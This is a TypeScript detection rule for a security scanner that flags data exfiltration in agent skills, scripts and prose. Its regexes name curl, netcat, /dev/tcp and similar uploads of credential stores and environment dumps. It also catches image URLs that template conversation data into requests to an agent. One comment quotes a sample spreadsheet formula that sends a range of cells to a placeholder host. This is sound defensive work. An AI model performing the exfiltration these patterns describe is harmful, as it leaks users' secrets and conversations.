import type { AstContext, AstRule } from '../js/ast-rule'
import type { Node } from '../js/walk'
import type { RuleModule } from '../types'
import { NETWORK_CALL_TRIGGERS, networkCall } from '../js/callees'
import { HIDDEN_NAME_TRIGGERS } from '../js/hidden-names'
import { browserExfiltration } from './exfil-browser'
import { visitExfiltration } from './exfil-flow'
import { EXFIL_PROSE } from './exfil-prose'
import { secretSources } from './exfil-taint'
import { ENV_DUMP, namesSensitive, SECRET_NAME, secretNames, STORES } from './leak-sources'
import { sendsForeign } from './own-host'
import { isDataName, urlPlaceholders } from './url-template'

const SENSITIVE = `(?:${STORES.map(s => s.re).join('|')})`
const SECRET_VAR = String.raw`\$\{?(?:env:)?${SECRET_NAME}\}?`
// Any placeholder a URL can hold (what `urlPlaceholders` then names and places).
const PLACEHOLDER
  = String.raw`(?:\{\{?[^{}\n]{1,60}\}\}?|\$\{[^}\n]{1,60}\}|\$\([^)\n]{1,60}\)|%7B|<[A-Za-z_][\w .~/-]{1,40}>`
    + String.raw`|\[[A-Z][A-Z_ ]{2,40}\]|\$[A-Za-z_]\w*)`
const IMAGE_URL = String.raw`!\[[^\]\n]{0,200}\]\(\s*<?((?:https?:)?\/\/[^)\s]{0,400}?${PLACEHOLDER}[^)\s]{0,400})`
const REF_URL = String.raw`^\s{0,3}\[[^\]\n]{1,100}\]:\s*<?((?:https?:)?\/\/[^\s>]{0,400}?${PLACEHOLDER}[^\s>]{0,400})`
const LINK_URL = String.raw`(?<!!)\[[^\]\n]{0,200}\]\(\s*<?((?:https?:)?\/\/[^)\s]{0,400}?${PLACEHOLDER}[^)\s]{0,400})`
const IMG_TAG = String.raw`<img\b[^>\n]{0,200}?\bsrc\s*=\s*["']?`
  + String.raw`((?:https?:)?\/\/[^"'\s>]{0,400}?${PLACEHOLDER}[^"'\s>]{0,400})`

/** Markdown inside an inline code span (`` `![x](https://...)` ``) is shown as text: no image loads. */
function inCodeSpan(m: RegExpExecArray, line: string): boolean {
  const ticks = (line.slice(0, m.index).match(/`/g) ?? []).length
  return ticks % 2 === 1 && line.includes('`', m.index + m[0].length)
}
/**
 * The URL (group 1) templates data: a placeholder named for conversation data or secrets. A code span that is the
 * whole line is the template the agent is to write out ("add this badge to each summary:"), not an aside.
 */
function namesData(m: RegExpExecArray, line: string): boolean {
  return (!inCodeSpan(m, line) || /^\s*`[^`]+`\s*$/.test(line)) && urlPlaceholders(m[1]!).some(p => isDataName(p.name))
}
/** The URL templates something into its query string, whatever its name (an image loads without a click). */
function queryTemplate(m: RegExpExecArray, line: string): boolean {
  return !inCodeSpan(m, line) && urlPlaceholders(m[1]!).some(p => p.inQuery)
}
const foreign = (_m: RegExpExecArray, line: string): boolean => sendsForeign(line, secretNames(line))

/** JS: a network call given the environment, a sensitive file, or a variable filled from either. */
const ast: AstRule = {
  triggers: [...NETWORK_CALL_TRIGGERS, String.raw`\bprocess\s*\.\s*env\b(?!\s*\.|\s*\[)`, ...HIDDEN_NAME_TRIGGERS],
  create: (context) => {
    const secrets = secretSources(context)
    // Requests kept in a variable (`const req = https.request(...)`): their body is what `req.write` and `req.end`
    // are given.
    const requests = new Set<string>()
    const call = (node: Node): void => {
      const args: Node[] = node.arguments ?? []
      const callee = node.callee
      if (node.type === 'CallExpression' && callee?.type === 'MemberExpression' && callee.object?.type === 'Identifier'
        && requests.has(callee.object.name) && /^(?:write|end|send)$/.test(callee.property?.name ?? '')) {
        if (args.some(secrets.holdsSecret))
          context.report(node, 'sends environment variables or a sensitive file over the network')
        return
      }
      if (!args.length || !networkCall(node, context.evaluate(node.callee)))
        return
      if (args.some(secrets.holdsSecret))
        context.report(node, 'sends environment variables or a sensitive file over the network')
      else if (namedSecretAway(context, args))
        context.report(node, 'sends a secret to a host that is not its service')
    }
    const declarator = (node: Node): void => {
      const init = node.init
      if (node.id?.type === 'Identifier' && init && (init.type === 'CallExpression' || init.type === 'NewExpression')
        && networkCall(init, context.evaluate(init.callee))) {
        requests.add(node.id.name)
      }
    }
    return { CallExpression: call, NewExpression: call, VariableDeclarator: declarator }
  },
}

const SECRET_VAR_NAME = new RegExp(`^${SECRET_NAME}$`)
/**
 * A request given a secret variable (`process.env.NPM_TOKEN`) and a literal host that is not that secret's
 * service: a URL, or the `hostname` of a request's options.
 */
function namedSecretAway(context: AstContext, args: Node[]): boolean {
  const names: string[] = []
  const hosts: string[] = []
  const root = { type: 'Args', start: 0, end: 0, a: args }
  context.subtreeHas(root, (n, p) => {
    if (n.type === 'MemberExpression' && context.evaluate(n.object)?.k === 'env') {
      const name = n.computed ? n.property?.value : n.property?.name
      if (typeof name === 'string' && SECRET_VAR_NAME.test(name))
        names.push(name)
    }
    const text = n.type === 'Literal' ? n.value : n.type === 'TemplateElement' ? n.value?.raw : null
    if (typeof text === 'string') {
      const key = p?.type === 'Property' && p.value === n ? (p.key?.name ?? p.key?.value) : null
      if (/^(?:https?|wss?):\/\//i.test(text))
        hosts.push(text)
      else if ((key === 'hostname' || key === 'host') && /^[\w.-]+$/.test(text))
        hosts.push(`https://${text}`)
    }
    return false
  })
  return names.length > 0 && hosts.length > 0 && sendsForeign(hosts.join(' '), names)
}

/** Data leaving: templated images and links, uploads of keys, files and the environment, prose that asks for it. */
export const exfiltration: RuleModule = {
  meta: {
    id: 'exfiltration',
    kind: 'threat',
    severity: 'error',
    cwe: 'CWE-200',
    description:
      'Exfiltration: secrets, credential files, the environment or conversation data sent to a remote host '
      + '(request bodies, query strings, headers to a host that is not the secret\'s own service, uploads, sockets, '
      + 'mail and webhooks), templated into images or links, or prose that tells the agent to send them.',
    hint: 'Never put conversation data, secrets or environment variables into URLs or uploads; images must be static; '
      + 'send a key only to the service it belongs to.',
  },
  patterns: [
    {
      anchor: '!\\[',
      re: new RegExp(IMAGE_URL, 'i'),
      langs: ['prose', 'text'],
      message: 'markdown image URL templates data (images load without a click)',
      accept: namesData,
    },
    {
      anchor: '!\\[',
      re: new RegExp(IMAGE_URL, 'i'),
      langs: ['prose', 'text'],
      severity: 'warning',
      message: 'markdown image URL templates its query string (images load without a click)',
      accept: queryTemplate,
    },
    {
      anchor: '<img',
      re: new RegExp(IMG_TAG, 'i'),
      langs: ['prose', 'text'],
      message: 'HTML image URL templates data (images load without a click)',
      accept: namesData,
    },
    {
      anchor: ']:',
      re: new RegExp(REF_URL, 'i'),
      langs: ['prose', 'text'],
      message: 'reference-style link/image definition templates data',
      accept: namesData,
    },
    {
      anchor: String.raw`\]\(\s*<?(?:https?:)?\/\/[^)\s]{0,400}[{<\[$%]`,
      re: new RegExp(LINK_URL, 'i'),
      langs: ['prose', 'text'],
      message: 'link URL templates conversation data',
      accept: namesData,
    },
    ...EXFIL_PROSE,
    {
      // `=IMPORTXML("https://host/b?id="&ENCODEURL(TEXTJOIN(";",TRUE,Deals!A2:A200)), ...)`: a sheet's formula sends
      // a range of cells with every recalculation. One cell is a lookup's key (a ticker), not a dump.
      anchor: 'IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED|IMAGE|WEBSERVICE',
      re: new RegExp(
        String.raw`\b(?:IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED|IMAGE|WEBSERVICE)\s*\(\s*"https?:\/\/[^"\n]*"\s*&`
        + String.raw`[^\n]{0,200}?(?:\$?[A-Z]{1,3}\$?\d*:\$?[A-Z]{1,3}\$?\d*\b|\b(?:TEXTJOIN|CONCATENATE|JOIN)\s*\()`,
      ),
      langs: ['prose', 'text', 'js', 'py', 'sh'],
      message: 'a spreadsheet formula sends a range of cells to a URL (with every recalculation)',
    },
    {
      anchor: 'curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm',
      re: new RegExp(
        [
          String.raw`\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^\n]{0,300}?(?:`,
          String.raw`(?:\s(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|--post-file|--body-file`,
          String.raw`|--post-data|-Body|-InFile)(?:=|\s+)['"]?[^\s'"]{0,40}?(?:@|=@|\()?[^\n]{0,120}?${SENSITIVE}`,
          String.raw`|\$\(\s*(?:cat|base64|xxd|gzip|tar|type|gc|Get-Content)\b[^)\n]{0,80}?${SENSITIVE}`,
          String.raw`|(?:^|\s)<\s*["']?${SENSITIVE})`,
          String.raw`|${ENV_DUMP})`,
        ].join(''),
        'i',
      ),
      langs: ['sh', 'prose', 'text', 'py', 'js'],
      view: 'noComments',
      message: 'uploads a sensitive file or the environment',
    },
    {
      anchor: 'curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm',
      re: new RegExp(
        String.raw`\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^\n]{0,300}?${SECRET_VAR}`,
        'i',
      ),
      langs: ['sh', 'prose', 'text', 'py', 'js'],
      view: 'noComments',
      message: 'sends a secret to a host that is not its service',
      accept: foreign,
    },
    {
      anchor: String.raw`\|\s*(?:base64|gzip|xxd|openssl|curl|wget|nc|ncat|netcat|socat|ConvertTo-Json|iwr|irm`
        + String.raw`|Invoke-)\b`,
      re: new RegExp(
        [
          String.raw`(?:^|[\s;&|(\`$])(?:env|printenv|set|export\s+-p|history|Get-ChildItem\s+env:|gci\s+env:`,
          String.raw`|(?:cat|tar\s+\S*c\S*|zip\s+-r\S*|gc|Get-Content|type)\s+[^\n|]{0,120}?${SENSITIVE}[^\n|]{0,60}?)`,
          String.raw`\s*\|\s*(?:(?:base64|gzip|xxd\s+-p|openssl\s+enc\S*|ConvertTo-Json)[^|\n]{0,40}\|\s*)?`,
          String.raw`(?:curl|wget|nc|ncat|netcat|socat|openssl\s+s_client|Invoke-WebRequest|Invoke-RestMethod|iwr`
          + String.raw`|irm)\b`,
        ].join(''),
        'i',
      ),
      langs: ['sh', 'prose', 'text', 'py', 'js'],
      view: 'noComments',
      message: 'pipes secrets or the environment to the network',
    },
    {
      anchor: 'nc|ncat|netcat|socat|dev/tcp|dev/udp',
      re: new RegExp(
        String.raw`\b(?:nc|ncat|netcat|socat)\b[^\n]{0,120}?<\s*[^\n]{0,40}?${SENSITIVE}|(?:${SENSITIVE}`
        + String.raw`|${ENV_DUMP})[^\n]{0,80}>\s*\/dev\/(?:tcp|udp)\/|>\s*\/dev\/tcp\/`,
        'i',
      ),
      langs: ['sh', 'prose', 'text'],
      view: 'noComments',
      message: 'sends data over a raw socket',
      // A socket on this machine (a lab's listener on 127.0.0.1) takes nothing anywhere.
      accept: (m, line) =>
        !/^>\s*\/dev\/tcp\/(?:127\.\d+\.\d+\.\d+|localhost)\//.test(line.slice(line.indexOf('>', m.index))),
    },
    {
      anchor: 'scp|rsync|sftp',
      re: new RegExp(String.raw`\b(?:scp|rsync)\b[^\n]{0,200}?${SENSITIVE}[^\n]{0,200}?\s\S*[\w\]]:`, 'i'),
      langs: ['sh', 'prose', 'text'],
      view: 'noComments',
      message: 'copies a credential store to a remote host',
      // A key given with `-i` (or an ssh command with one) logs in, and a public key is public: neither is a leak.
      accept: (_m, line) =>
        namesSensitive(line.replace(/\s-i\s*\S+|\s-e\s+(["'])[^"']*\1|\s-e\s+\S+|\S+\.pub\b/g, ' ')),
    },
    {
      anchor: 'mail|mutt|Send-MailMessage|sendmail',
      re: new RegExp(
        String.raw`\b(?:mailx?|mutt|sendmail|Send-MailMessage)\b[^\n]{0,200}?(?:<\s*|-a\s+|-A\s+|-Attachments\s+`
        + String.raw`|-Body\s+)["'(]?[^\n]{0,40}?(?:${SENSITIVE}|${ENV_DUMP})`,
        'i',
      ),
      langs: ['sh', 'prose', 'text'],
      view: 'noComments',
      message: 'mails a credential store or the environment',
    },
    {
      anchor: String.raw`requests|httpx|session|client|urllib|urlopen|\.send`,
      re: new RegExp(
        [
          String.raw`(?:\b(?:requests|httpx|session|client|urllib\.request)\s*\.\s*(?:post|put|patch|get|request`
          + String.raw`|urlopen)`,
          String.raw`|\burlopen|\.send(?:all|to)?)\s*\([^\n]{0,200}?(?:os\.environ\b(?!\s*(?:\[|\.get))`,
          String.raw`|dict\s*\(\s*os\.environ|${SENSITIVE})`,
        ].join(''),
        'i',
      ),
      langs: ['py'],
      view: 'noComments',
      message: 'sends the environment or a sensitive file over the network',
    },
    {
      anchor: String.raw`requests|httpx|urlopen|fetch|axios|got`,
      re: new RegExp(
        [
          String.raw`(?:\b(?:requests|httpx)\s*\.\s*(?:post|put|patch|get|request)|\burlopen|\bfetch`
          + String.raw`|\baxios(?:\s*\.\s*\w+)?`,
          String.raw`|\bgot(?:\s*\.\s*\w+)?)\s*\([^\n]{0,300}?(?:os\.(?:environ(?:\.get)?\s*[[(]|getenv\s*\()\s*['"]`,
          String.raw`|process\.env(?:\.|\[\s*['"]))${SECRET_NAME}`,
        ].join(''),
      ),
      langs: ['py', 'js'],
      view: 'noComments',
      message: 'sends a secret to a host that is not its service',
      accept: foreign,
    },
  ],
  ast,
  visitSkill: skill => [...visitExfiltration(skill), ...browserExfiltration(skill)],
}
